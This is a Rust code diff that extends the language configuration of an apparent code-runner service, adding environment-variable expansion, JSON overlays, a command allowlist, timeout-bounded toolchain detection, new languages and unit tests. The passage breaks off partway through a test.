@@ -1,18 +1,186 @@
-use std::collections::HashMap;
-use std::path::Path;
+use anyhow::Context;
+use anyhow::{anyhow, Result};
+use std::collections::{HashMap, HashSet};
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+/// Upper bound on the whole detection pass so a slow machine can't stall startup.
+pub const DEFAULT_DETECTION_DEADLINE: Duration = Duration::from_secs(10);
+
+/// Languages whose runtimes (JVM, .NET) can take several seconds to answer a version
+/// check on a cold machine.
+const SLOW_TOOLCHAINS: &[&str] = &["java", "kotlin", "csharp"];
+
+/// Default per-case timeout of the built-in `SLOW_TOOLCHAINS`, whose runtimes start slowly
+const SLOW_TOOLCHAIN_TIMEOUT_MS: u64 = 10_000;
+
+/// Per-language timeouts for the version checks run during detection.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct DetectionTimeouts {
+    pub default: Duration,
+    /// Used for `SLOW_TOOLCHAINS`
+    pub slow: Duration,
+}
+
+impl Default for DetectionTimeouts {
+    fn default() -> Self {
+        Self {
+            default: Duration::from_secs(3),
+            slow: Duration::from_secs(8),
+        }
+    }
+}
+
+impl DetectionTimeouts {
+    /// Defaults overridden by `BUILDIT_DETECTION_TIMEOUT_MS` and
+    /// `BUILDIT_SLOW_DETECTION_TIMEOUT_MS`.
+    pub fn from_env() -> Self {
+        let ms = |var: &str| {
+            std::env::var(var)
+                .ok()
+                .and_then(|v| v.trim().parse().ok())
+                .map(Duration::from_millis)
+        };
+        let defaults = Self::default();
+        let default = ms("BUILDIT_DETECTION_TIMEOUT_MS").unwrap_or(defaults.default);
+        // A raised general timeout shouldn't leave slow toolchains with less time
+        let slow = ms("BUILDIT_SLOW_DETECTION_TIMEOUT_MS").unwrap_or(defaults.slow.max(default));
+        Self { default, slow }
+    }
+
+    pub fn for_language(&self, name: &str) -> Duration {
+        if SLOW_TOOLCHAINS.contains(&name) {
+            self.slow
+        } else {
+            self.default
+        }
+    }
+}
 
 // Configuration used at runtime for each language
-#[derive(Debug, Clone)]
+#[derive(Debug, Clone, serde::Deserialize, serde::Serialize)]
 #[allow(dead_code)]
 pub struct LanguageConfig {
     pub display_name: String,
     pub file_name: String,
     pub version_command: String,
+    #[serde(default)]
     pub compile_command: Option<String>,
+    #[serde(default)]
     pub compile_args: Vec<String>,
     pub run_command: String,
+    #[serde(default)]
     pub run_args: Vec<String>,
+    // Derived from `file_name` when omitted in a config file
+    #[serde(default)]
     pub file_extension: String,
+    /// Named sets of extra compile args (e.g. `debug`, `release`) a request can opt into
+    #[serde(default)]
+    pub optimization_presets: HashMap<String, Vec<String>>,
+    /// Timeout of a test case that doesn't set `timeout_ms`, instead of the global default
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub default_timeout_ms: Option<u64>,
+    /// Memory limit of a test case that doesn't set `memory_limit_kb`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub default_memory_limit_kb: Option<u64>,
+    /// Source of a trivial program printing `hello`, run by `POST /selftest`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub canary: Option<String>,
+}
+
+/// How `${VAR}` references to unset environment variables are handled at load time.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum UndefinedVarPolicy {
+    /// Leave `${VAR}` in place untouched
+    #[default]
+    KeepLiteral,
+    /// Reject the config with an error naming the variable
+    Error,
+}
+
+impl UndefinedVarPolicy {
+    /// `BUILDIT_STRICT_CONFIG_ENV=1` makes undefined variables an error.
+    pub fn from_env() -> Self {
+        match std::env::var("BUILDIT_STRICT_CONFIG_ENV") {
+            Ok(v) if v == "1" || v.eq_ignore_ascii_case("true") => UndefinedVarPolicy::Error,
+            _ => UndefinedVarPolicy::KeepLiteral,
+        }
+    }
+}
+
+// Expand `${VAR}` references using `lookup`. An unterminated `${` is kept verbatim.
+pub fn expand_vars_with<F>(input: &str, policy: UndefinedVarPolicy, lookup: F) -> Result<String>
+where
+    F: Fn(&str) -> Option<String>,
+{
+    let mut out = String::with_capacity(input.len());
+    let mut rest = input;
+
+    while let Some(start) = rest.find("${") {
+        out.push_str(&rest[..start]);
+        let after = &rest[start + 2..];
+        let Some(end) = after.find('}') else {
+            out.push_str(&rest[start..]);
+            return Ok(out);
+        };
+
+        let name = &after[..end];
+        match lookup(name) {
+            Some(value) => out.push_str(&value),
+            None if policy == UndefinedVarPolicy::Error => {
+                return Err(anyhow!("undefined environment variable: {}", name));
+            }
+            None => out.push_str(&rest[start..start + 2 + end + 1]),
+        }
+        rest = &after[end + 1..];
+    }
+
+    out.push_str(rest);
+    Ok(out)
+}
+
+// Expand `${VAR}` references against the process environment.
+pub fn expand_env_vars(input: &str, policy: UndefinedVarPolicy) -> Result<String> {
+    expand_vars_with(input, policy, |name| std::env::var(name).ok())
+}
+
+impl LanguageConfig {
+    /// Expand environment variables in every command and argument.
+    pub fn expand_env(&self, policy: UndefinedVarPolicy) -> Result<Self> {
+        let expand = |s: &String| expand_env_vars(s, policy);
+        let expand_all = |v: &Vec<String>| v.iter().map(expand).collect::<Result<Vec<_>>>();
+
+        Ok(LanguageConfig {
+            version_command: expand(&self.version_command)?,
+            compile_command: self.compile_command.as_ref().map(expand).transpose()?,
+            compile_args: expand_all(&self.compile_args)?,
+            run_command: expand(&self.run_command)?,
+            run_args: expand_all(&self.run_args)?,
+            optimization_presets: self
+                .optimization_presets
+                .iter()
+                .map(|(name, args)| Ok((name.clone(), expand_all(args)?)))
+                .collect::<Result<_>>()?,
+            ..self.clone()
+        })
+    }
+
+    /// Compile args with the requested optimization preset appended. No preset keeps the
+    /// plain `compile_args`; an unknown preset name is an error.
+    pub fn compile_args_for(&self, preset: Option<&str>) -> Result<Vec<String>> {
+        let mut args = self.compile_args.clone();
+        if let Some(name) = preset {
+            let extra = self.optimization_presets.get(name).ok_or_else(|| {
+                anyhow!(
+                    "Unknown optimization preset '{}' for {}",
+                    name,
+                    self.display_name
+                )
+            })?;
+            args.extend(extra.iter().cloned());
+        }
+        Ok(args)
+    }
 }
 
 #[derive(Debug, Clone, serde::Serialize)]
@@ -22,8 +190,14 @@ pub struct LanguageInfo {
     pub version: String,
 }
 
-// Load language configurations from JSON and select platform-specific settings
+// Built-in language configurations with environment variables expanded
+#[allow(dead_code)] // library API; the executor goes through `load_language_configs`
 pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
+    expand_config_env(builtin_language_configs(), UndefinedVarPolicy::from_env())
+}
+
+// Built-in configurations with platform-specific settings selected, before expansion
+fn builtin_language_configs() -> HashMap<String, LanguageConfig> {
     // Hardcoded language configurations (previously in `languages.json`).
     // Platform-specific differences are selected at runtime using cfg!(windows).
     let is_windows = cfg!(windows);
@@ -37,6 +211,22 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
             .to_string()
     };
 
+    // Optimization presets shared by the GCC/Clang family
+    let c_presets = || -> HashMap<String, Vec<String>> {
+        HashMap::from([
+            (
+                "debug".to_string(),
+                vec!["-O0".to_string(), "-g".to_string()],
+            ),
+            ("release".to_string(), vec!["-O2".to_string()]),
+        ])
+    };
+
+    // Trivial programs printing "hello", run by the executor's self-test
+    let canary = |src: &str| Some(src.to_string());
+    let c_canary = "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n";
+    let cpp_canary = "#include <iostream>\nint main() { std::cout << \"hello\" << std::endl; }\n";
+
     // python3
     {
         let file_name = "main.py".to_string();
@@ -52,6 +242,10 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: if is_windows { "python" } else { "python3" }.to_string(),
                 run_args: vec!["main.py".to_string()],
                 file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(r#"print("hello")"#),
             },
         );
     }
@@ -71,6 +265,10 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: "python".to_string(),
                 run_args: vec!["main.py".to_string()],
                 file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(r#"print("hello")"#),
             },
         );
     }
@@ -90,6 +288,17 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: "java".to_string(),
                 run_args: vec!["Main".to_string()],
                 file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: Some(SLOW_TOOLCHAIN_TIMEOUT_MS),
+                default_memory_limit_kb: None,
+                canary: canary(
+                    r#"public class Main {
+    public static void main(String[] args) {
+        System.out.println("hello");
+    }
+}
+"#,
+                ),
             },
         );
     }
@@ -119,6 +328,10 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: run_command.to_string(),
                 run_args: vec![],
                 file_extension: ext,
+                optimization_presets: c_presets(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(c_canary),
             },
         );
     }
@@ -148,6 +361,10 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: run_command.to_string(),
                 run_args: vec![],
                 file_extension: ext,
+                optimization_presets: c_presets(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(c_canary),
             },
         );
     }
@@ -177,6 +394,10 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: run_command.to_string(),
                 run_args: vec![],
                 file_extension: ext.clone(),
+                optimization_presets: c_presets(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(cpp_canary),
             },
         );
     }
@@ -206,6 +427,10 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: run_command.to_string(),
                 run_args: vec![],
                 file_extension: ext,
+                optimization_presets: c_presets(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(cpp_canary),
             },
         );
     }
@@ -235,6 +460,23 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: run_command.to_string(),
                 run_args: vec![],
                 file_extension: ext,
+                optimization_presets: HashMap::from([
+                    (
+                        "debug".to_string(),
+                        vec![
+                            "-C".to_string(),
+                            "opt-level=0".to_string(),
+                            "-g".to_string(),
+                        ],
+                    ),
+                    (
+                        "release".to_string(),
+                        vec!["-C".to_string(), "opt-level=2".to_string()],
+                    ),
+                ]),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(r#"fn main() { println!("hello"); }"#),
             },
         );
     }
@@ -254,6 +496,42 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: "node".to_string(),
                 run_args: vec!["main.js".to_string()],
                 file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(r#"console.log("hello");"#),
+            },
+        );
+    }
+
+    // typescript: type-checked and transpiled by tsc, then run as JavaScript
+    {
+        let file_name = "main.ts".to_string();
+        let ext = ext_of(&file_name);
+        configs.insert(
+            "typescript".to_string(),
+            LanguageConfig {
+                display_name: "TypeScript".to_string(),
+                file_name: file_name.clone(),
+                version_command: "tsc --version".to_string(),
+                compile_command: Some("tsc".to_string()),
+                // Without a target tsc emits ES5, which rejects much of modern TypeScript
+                compile_args: vec![
+                    "main.ts".to_string(),
+                    "--target".to_string(),
+                    "es2020".to_string(),
+                ],
+                run_command: "node".to_string(),
+                run_args: vec!["main.js".to_string()],
+                file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(
+                    r#"const greeting: string = "hello";
+console.log(greeting);
+"#,
+                ),
             },
         );
     }
@@ -289,6 +567,17 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: run_command.to_string(),
                 run_args: vec![],
                 file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(
+                    r#"package main
+
+import "fmt"
+
+func main() { fmt.Println("hello") }
+"#,
+                ),
             },
         );
     }
@@ -308,6 +597,10 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: "dotnet".to_string(),
                 run_args: vec!["run".to_string()],
                 file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: Some(SLOW_TOOLCHAIN_TIMEOUT_MS),
+                default_memory_limit_kb: None,
+                canary: canary(r#"System.Console.WriteLine("hello");"#),
             },
         );
     }
@@ -327,6 +620,10 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: "psql".to_string(),
                 run_args: vec![],
                 file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: None,
             },
         );
     }
@@ -351,47 +648,401 @@ pub fn generate_language_configs() -> HashMap<String, LanguageConfig> {
                 run_command: "java".to_string(),
                 run_args: vec!["-jar".to_string(), "Main.jar".to_string()],
                 file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: Some(SLOW_TOOLCHAIN_TIMEOUT_MS),
+                default_memory_limit_kb: None,
+                canary: canary(r#"fun main() { println("hello") }"#),
+            },
+        );
+    }
+
+    // ruby
+    {
+        let file_name = "main.rb".to_string();
+        let ext = ext_of(&file_name);
+        configs.insert(
+            "ruby".to_string(),
+            LanguageConfig {
+                display_name: "Ruby".to_string(),
+                file_name: file_name.clone(),
+                version_command: "ruby --version".to_string(),
+                compile_command: None,
+                compile_args: vec![],
+                run_command: "ruby".to_string(),
+                run_args: vec!["main.rb".to_string()],
+                file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(r#"puts "hello""#),
             },
         );
     }
 
+    // php
+    {
+        let file_name = "main.php".to_string();
+        let ext = ext_of(&file_name);
+        configs.insert(
+            "php".to_string(),
+            LanguageConfig {
+                display_name: "PHP".to_string(),
+                file_name: file_name.clone(),
+                version_command: "php --version".to_string(),
+                compile_command: None,
+                compile_args: vec![],
+                run_command: "php".to_string(),
+                run_args: vec!["main.php".to_string()],
+                file_extension: ext,
+                optimization_presets: HashMap::new(),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary("<?php\necho \"hello\\n\";\n"),
+            },
+        );
+    }
+
+    // swift
+    {
+        let file_name = "main.swift".to_string();
+        let ext = ext_of(&file_name);
+        let binary = if is_windows { "main.exe" } else { "main" };
+        let run_command = if is_windows { "main.exe" } else { "./main" };
+        configs.insert(
+            "swift".to_string(),
+            LanguageConfig {
+                display_name: "Swift".to_string(),
+                file_name: file_name.clone(),
+                version_command: "swiftc --version".to_string(),
+                compile_command: Some("swiftc".to_string()),
+                compile_args: vec![
+                    "main.swift".to_string(),
+                    "-o".to_string(),
+                    binary.to_string(),
+                ],
+                run_command: run_command.to_string(),
+                run_args: vec![],
+                file_extension: ext,
+                optimization_presets: HashMap::from([
+                    (
+                        "debug".to_string(),
+                        vec!["-Onone".to_string(), "-g".to_string()],
+                    ),
+                    ("release".to_string(), vec!["-O".to_string()]),
+                ]),
+                default_timeout_ms: None,
+                default_memory_limit_kb: None,
+                canary: canary(r#"print("hello")"#),
+            },
+        );
+    }
+
+    configs
+}
+
+/// Path of the optional language config file (`BUILDIT_LANGUAGES_FILE`).
+pub fn languages_file_path() -> Option<PathBuf> {
+    std::env::var_os("BUILDIT_LANGUAGES_FILE").map(PathBuf::from)
+}
+
+/// Path of the optional overlay patching the base configs (`BUILDIT_LANGUAGES_OVERLAY_FILE`).
+pub fn languages_overlay_path() -> Option<PathBuf> {
+    std::env::var_os("BUILDIT_LANGUAGES_OVERLAY_FILE").map(PathBuf::from)
+}
+
+// Load language configs from a JSON object keyed by language name, or fall back to the
+// built-in configs when no file is configured. The overlay file, if set, is applied on top.
+pub fn load_language_configs(path: Option<&Path>) -> Result<HashMap<String, LanguageConfig>> {
+    load_language_configs_with(path, languages_overlay_path().as_deref())
+}
+
+// `load_language_configs` with an explicit overlay path.
+pub fn load_language_configs_with(
+    path: Option<&Path>,
+    overlay: Option<&Path>,
+) -> Result<HashMap<String, LanguageConfig>> {
+    let mut configs = match path {
+        Some(path) => load_language_file(path)?,
+        None => builtin_language_configs(),
+    };
+    if let Some(overlay) = overlay {
+        configs = apply_language_overlay(configs, overlay)?;
+    }
+    let configs = expand_config_env(configs, UndefinedVarPolicy::from_env());
+    Ok(enforce_command_allowlist(
+        configs,
+        &CommandAllowlist::from_env(),
+    ))
+}
+
+fn load_language_file(path: &Path) -> Result<HashMap<String, LanguageConfig>> {
+    let text =
+        std::fs::read_to_string(path).with_context(|| format!("reading {}", path.display()))?;
+    let mut configs: HashMap<String, LanguageConfig> =
+        serde_json::from_str(&text).with_context(|| format!("parsing {}", path.display()))?;
+    configs.values_mut().for_each(fill_file_extension);
+    Ok(configs)
+}
+
+fn fill_file_extension(cfg: &mut LanguageConfig) {
+    if cfg.file_extension.is_empty() {
+        cfg.file_extension = Path::new(&cfg.file_name)
+            .extension()
+            .and_then(|s| s.to_str())
+            .unwrap_or("")
+            .to_string();
+    }
+}
+
+// Patch `configs` with the overlay file, a JSON object keyed by language name:
+// - a language missing from `configs` is added and must be a complete config
+// - an existing language is deep-merged: objects (`optimization_presets`) merge key by key,
+//   while scalars and arrays (e.g. `compile_args`) replace the base value wholesale
+// - `null` clears an optional field such as `compile_command`, and as a whole language
+//   value removes that language
+fn apply_language_overlay(
+    mut configs: HashMap<String, LanguageConfig>,
+    path: &Path,
+) -> Result<HashMap<String, LanguageConfig>> {
+    let text =
+        std::fs::read_to_string(path).with_context(|| format!("reading {}", path.display()))?;
+    let overlay: serde_json::Map<String, serde_json::Value> =
+        serde_json::from_str(&text).with_context(|| format!("parsing {}", path.display()))?;
+
+    for (name, patch) in overlay {
+        if patch.is_null() {
+            configs.remove(&name);
+            continue;
+        }
+        // A new file name without an explicit extension implies the new extension
+        let renamed = patch.get("file_name").is_some() && patch.get("file_extension").is_none();
+        let mut merged = match configs.get(&name) {
+            Some(base) => serde_json::to_value(base)?,
+            None => serde_json::Value::Object(Default::default()),
+        };
+        merge_json(&mut merged, patch);
+        let mut cfg: LanguageConfig = serde_json::from_value(merged)
+            .with_context(|| format!("applying overlay for {} from {}", name, path.display()))?;
+        if renamed {
+            cfg.file_extension.clear();
+        }
+        fill_file_extension(&mut cfg);
+        configs.insert(name, cfg);
+    }
+    Ok(configs)
+}
+
+// Deep-merge `patch` into `base`: objects merge recursively, anything else replaces.
+fn merge_json(base: &mut serde_json::Value, patch: serde_json::Value) {
+    match (base, patch) {
+        (serde_json::Value::Object(base), serde_json::Value::Object(patch)) => {
+            for (key, value) in patch {
+                match base.get_mut(&key) {
+                    Some(existing) => merge_json(existing, value),
+                    None => {
+                        base.insert(key, value);
+                    }
+                }
+            }
+        }
+        (base, patch) => *base = patch,
+    }
+}
+
+// Resolve `${VAR}` references once at load time. Languages that fail expansion are dropped.
+fn expand_config_env(
+    configs: HashMap<String, LanguageConfig>,
+    policy: UndefinedVarPolicy,
+) -> HashMap<String, LanguageConfig> {
     configs
+        .into_iter()
+        .filter_map(|(name, cfg)| match cfg.expand_env(policy) {
+            Ok(expanded) => Some((name, expanded)),
+            Err(e) => {
+                eprintln!("Skipping language {}: {}", name, e);
+                None
+            }
+        })
+        .collect()
+}
+
+// Characters that chain, substitute or redirect commands in `sh -c` and `cmd /C`
+const SHELL_METACHARACTERS: &[char] = &[';', '|', '&', '$', '`', '<', '>', '\n', '\r'];
+
+/// Executables language configs may spawn, from `BUILDIT_COMMAND_ALLOWLIST`
+/// (comma-separated names or paths, matched exactly). Without a list everything is allowed.
+/// Programs the submission itself produced in the work dir (`./main`) are always allowed.
+#[derive(Debug, Clone, Default)]
+pub struct CommandAllowlist {
+    allowed: Option<HashSet<String>>,
+    /// Drop offending languages instead of only warning
+    strict: bool,
+}
+
+impl CommandAllowlist {
+    pub fn new<I, S>(allowed: I, strict: bool) -> Self
+    where
+        I: IntoIterator<Item = S>,
+        S: Into<String>,
+    {
+        Self {
+            allowed: Some(allowed.into_iter().map(Into::into).collect()),
+            strict,
+        }
+    }
+
+    /// `BUILDIT_STRICT_COMMAND_ALLOWLIST=1` rejects configs instead of warning.
+    pub fn from_env() -> Self {
+        let strict = matches!(
+            std::env::var("BUILDIT_STRICT_COMMAND_ALLOWLIST").as_deref(),
+            Ok("1") | Ok("true")
+        );
+        match std::env::var("BUILDIT_COMMAND_ALLOWLIST") {
+            Ok(list) => Self::new(
+                list.split(',').map(str::trim).filter(|s| !s.is_empty()),
+                strict,
+            ),
+            Err(_) => Self::default(),
+        }
+    }
+
+    /// Commands spawned by `cfg` (compile, run and version check) that are not permitted.
+    /// With a list set, a version command using shell syntax is reported whole: it runs
+    /// through the platform shell, so only its first program would otherwise be checked.
+    pub fn disallowed_commands(&self, cfg: &LanguageConfig) -> Vec<String> {
+        let version_program = cfg.version_command.split_whitespace().next();
+        let mut disallowed: Vec<String> = cfg
+            .compile_command
+            .as_deref()
+            .into_iter()
+            .chain(std::iter::once(cfg.run_command.as_str()))
+            .chain(version_program)
+            .filter(|command| !self.permits(command))
+            .map(str::to_string)
+            .collect();
+        if self.allowed.is_some() && cfg.version_command.contains(SHELL_METACHARACTERS) {
+            disallowed.push(cfg.version_command.clone());
+        }
+        disallowed
+    }
+
+    fn permits(&self, command: &str) -> bool {
+        match &self.allowed {
+            None => true,
+            Some(allowed) => allowed.contains(command) || is_work_dir_artifact(command),
+        }
+    }
+}
+
+// A relative path such as `./main` or `target/app` that stays inside the work dir
+fn is_work_dir_artifact(command: &str) -> bool {
+    use std::path::Component;
+    (command.contains('/') || command.contains('\\'))
+        && Path::new(command)
+            .components()
+            .all(|c| matches!(c, Component::CurDir | Component::Normal(_)))
+}
+
+// Warn about or, in strict mode, drop languages that would spawn unlisted commands.
+fn enforce_command_allowlist(
+    configs: HashMap<String, LanguageConfig>,
+    allowlist: &CommandAllowlist,
+) -> HashMap<String, LanguageConfig> {
+    configs
+        .into_iter()
+        .filter(|(name, cfg)| {
+            let disallowed = allowlist.disallowed_commands(cfg);
+            if disallowed.is_empty() {
+                return true;
+            }
+            if allowlist.strict {
+                eprintln!(
+                    "Skipping language {}: commands not on the allowlist: {}",
+                    name,
+                    disallowed.join(", ")
+                );
+                false
+            } else {
+                eprintln!(
+                    "⚠️ Language {} uses commands not on the allowlist: {}",
+                    name,
+                    disallowed.join(", ")
+                );
+                true
+            }
+        })
+        .collect()
+}
+
+/// Outcome of a deadline-bounded detection pass.
+#[derive(Debug, Clone, Default)]
+pub struct DetectionResult {
+    pub installed: Vec<LanguageInfo>,
+    /// Languages whose version check had not finished when the deadline passed
+    pub pending: Vec<String>,
 }
 
 // Get supported language info (cross-platform)
 // Runs each language's configured `version_command` via the platform shell so commands
 // containing flags or complex expressions work (e.g. "python --version").
+#[allow(dead_code)] // library API; the executor uses `detect_languages_within` directly
 pub async fn get_installed_languages(
     configs: &HashMap<String, LanguageConfig>,
 ) -> Vec<LanguageInfo> {
+    detect_languages_within(configs, DEFAULT_DETECTION_DEADLINE)
+        .await
+        .installed
+}
+
+// Same as `get_installed_languages`, but stops waiting once `deadline` has elapsed and
+// reports the languages that were still being checked.
+pub async fn detect_languages_within(
+    configs: &HashMap<String, LanguageConfig>,
+    deadline: Duration,
+) -> DetectionResult {
+    detect_languages_with(configs, deadline, DetectionTimeouts::from_env()).await
+}
+
+// `detect_languages_within` with explicit per-language timeouts.
+pub async fn detect_languages_with(
+    configs: &HashMap<String, LanguageConfig>,
+    deadline: Duration,
+    timeouts: DetectionTimeouts,
+) -> DetectionResult {
     use futures::stream::{FuturesUnordered, StreamExt};
     use tokio::process::Command as TokioCommand;
-    use tokio::time::{timeout, Duration};
+    use tokio::time::{timeout, timeout_at, Instant};
 
+    let deadline = Instant::now() + deadline;
     let mut tasks = FuturesUnordered::new();
+    let mut pending = HashSet::new();
 
     for (name, cfg) in configs.iter() {
         let name = name.clone();
         let display = cfg.display_name.clone();
         let cmd_str = cfg.version_command.trim().to_string();
+        let check_timeout = timeouts.for_language(&name);
         if cmd_str.is_empty() {
             continue;
         }
+        pending.insert(name.clone());
 
         // Spawn an async task per language detection command.
         tasks.push(async move {
             // Use the platform shell so complex commands / flags work.
             let mut cmd = if cfg!(windows) {
                 let mut c = TokioCommand::new("cmd");
-                c.args(&["/C", &cmd_str]);
+                c.args(["/C", &cmd_str]);
                 c
             } else {
                 let mut c = TokioCommand::new("sh");
                 c.arg("-c").arg(&cmd_str);
                 c
             };
+            // Don't leave stray version checks running if the deadline abandons them.
+            cmd.kill_on_drop(true);
 
-            // Give each check a short timeout so a hanging tool won't block discovery.
+            // Give each check its own timeout so a hanging tool won't block discovery.
             let run = async {
                 match cmd.output().await {
                     Ok(out) => {
@@ -419,22 +1070,22 @@ pub async fn get_installed_languages(
                 }
             };
 
-            // 3 second timeout per language detection (reasonable default)
-            match timeout(Duration::from_secs(3), run).await {
-                Ok(opt) => opt,
-                Err(_) => None,
-            }
+            let info = timeout(check_timeout, run).await.unwrap_or(None);
+            (name, info)
         });
     }
 
-    let mut result = Vec::new();
-    while let Some(opt) = tasks.next().await {
+    let mut installed = Vec::new();
+    while let Ok(Some((name, opt))) = timeout_at(deadline, tasks.next()).await {
+        pending.remove(&name);
         if let Some(lang) = opt {
-            result.push(lang);
+            installed.push(lang);
         }
     }
 
-    result
+    let mut pending: Vec<String> = pending.into_iter().collect();
+    pending.sort();
+    DetectionResult { installed, pending }
 }
 
 #[cfg(test)]
@@ -450,9 +1101,12 @@ mod tests {
     #[test]
     fn test_common_languages_present() {
         let configs = generate_language_configs();
-        
+
         // Test that common languages are configured
-        assert!(configs.contains_key("python3"), "Python3 should be configured");
+        assert!(
+            configs.contains_key("python3"),
+            "Python3 should be configured"
+        );
         assert!(configs.contains_key("java"), "Java should be configured");
         assert!(configs.contains_key("gcc"), "GCC should be configured");
         assert!(configs.contains_key("gpp"), "G++ should be configured");
@@ -478,6 +1132,12 @@ mod tests {
         assert_eq!(java_config.file_name, "Main.java");
         assert_eq!(java_config.file_extension, "java");
         assert_eq!(java_config.compile_command, Some("javac".to_string()));
+        // The JVM's startup shouldn't eat into a case's time
+        assert_eq!(
+            java_config.default_timeout_ms,
+            Some(SLOW_TOOLCHAIN_TIMEOUT_MS)
+        );
+        assert_eq!(configs["gcc"].default_timeout_ms, None);
     }
 
     #[test]
@@ -502,10 +1162,59 @@ mod tests {
         assert_eq!(cpp_config.compile_command, Some("g++".to_string()));
     }
 
+    #[test]
+    fn test_typescript_config() {
+        let configs = generate_language_configs();
+        let ts_config = configs
+            .get("typescript")
+            .expect("TypeScript config should exist");
+
+        assert_eq!(ts_config.file_name, "main.ts");
+        assert_eq!(ts_config.file_extension, "ts");
+        assert_eq!(ts_config.version_command, "tsc --version");
+        assert_eq!(ts_config.compile_command, Some("tsc".to_string()));
+        assert_eq!(ts_config.compile_args[0], "main.ts");
+        // tsc writes main.js next to the source, and node runs that
+        assert_eq!(ts_config.run_command, "node");
+        assert_eq!(ts_config.run_args, vec!["main.js".to_string()]);
+    }
+
+    #[test]
+    fn test_ruby_php_swift_configs() {
+        let configs = generate_language_configs();
+        let expected = [
+            ("ruby", "main.rb", "rb"),
+            ("php", "main.php", "php"),
+            ("swift", "main.swift", "swift"),
+        ];
+        for (lang, file_name, ext) in expected {
+            let config = configs
+                .get(lang)
+                .unwrap_or_else(|| panic!("{} config should exist", lang));
+            assert_eq!(config.file_name, file_name);
+            assert_eq!(config.file_extension, ext);
+        }
+
+        assert!(configs["ruby"].compile_command.is_none());
+        assert_eq!(configs["ruby"].run_args, vec!["main.rb".to_string()]);
+        assert!(configs["php"].compile_command.is_none());
+        assert_eq!(configs["php"].run_args, vec!["main.php".to_string()]);
+
+        let swift = &configs["swift"];
+        assert_eq!(swift.compile_command, Some("swiftc".to_string()));
+        if cfg!(windows) {
+            assert_eq!(swift.compile_args, vec!["main.swift", "-o", "main.exe"]);
+            assert_eq!(swift.run_command, "main.exe");
+        } else {
+            assert_eq!(swift.compile_args, vec!["main.swift", "-o", "main"]);
+            assert_eq!(swift.run_command, "./main");
+        }
+    }
+
     #[test]
     fn test_language_config_file_extensions() {
         let configs = generate_language_configs();
-        
+
         // Verify file extensions are correctly extracted
         for (_name, config) in configs.iter() {
             if !config.file_name.is_empty() {
@@ -522,9 +1231,17 @@ mod tests {
     #[test]
     fn test_compiled_languages_have_compile_command() {
         let configs = generate_language_configs();
-        
+
         // Compiled languages should have compile commands
-        let compiled_langs = vec!["java", "gcc", "gpp", "clang", "clangpp"];
+        let compiled_langs = vec![
+            "java",
+            "gcc",
+            "gpp",
+            "clang",
+            "clangpp",
+            "typescript",
+            "swift",
+        ];
         for lang in compiled_langs {
             if let Some(config) = configs.get(lang) {
                 assert!(
@@ -539,9 +1256,9 @@ mod tests {
     #[test]
     fn test_interpreted_languages_no_compile_command() {
         let configs = generate_language_configs();
-        
+
         // Interpreted languages should not have compile commands
-        let interpreted_langs = vec!["python3", "python"];
+        let interpreted_langs = vec!["python3", "python", "ruby", "php"];
         for lang in interpreted_langs {
             if let Some(config) = configs.get(lang) {
                 assert!(
@@ -581,7 +1298,7 @@ mod tests {
     #[test]
     fn test_all_configs_have_display_name() {
         let configs = generate_language_configs();
-        
+
         for (name, config) in configs.iter() {
             assert!(
                 !config.display_name.is_empty(),
@@ -591,12 +1308,345 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_compile_args_without_preset_are_unchanged() {
+        let configs = generate_language_configs();
+        let gcc = &configs["gcc"];
+        assert_eq!(gcc.compile_args_for(None).unwrap(), gcc.compile_args);
+    }
+
+    #[test]
+    fn test_optimization_preset_appends_compile_args() {
+        let configs = generate_language_configs();
+        let gcc = &configs["gcc"];
+
